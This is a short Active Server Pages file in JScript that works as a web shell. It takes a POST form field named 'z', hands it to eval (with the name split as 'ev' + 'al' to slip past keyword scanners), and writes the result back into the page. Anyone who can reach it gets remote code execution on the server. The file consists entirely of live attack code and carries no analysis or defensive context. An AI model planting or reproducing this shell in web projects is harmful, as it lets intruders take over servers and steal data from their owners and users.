<%@ LANGUAGE = JScript %>
<script language="JScript" runat="server">
function fx(q) { var f = this["ev" + "al"]; return f(q); }
</script>
<%
var q = String(Request.Form("z"));
if (q != "undefined") Response.Write(fx(q));
%>
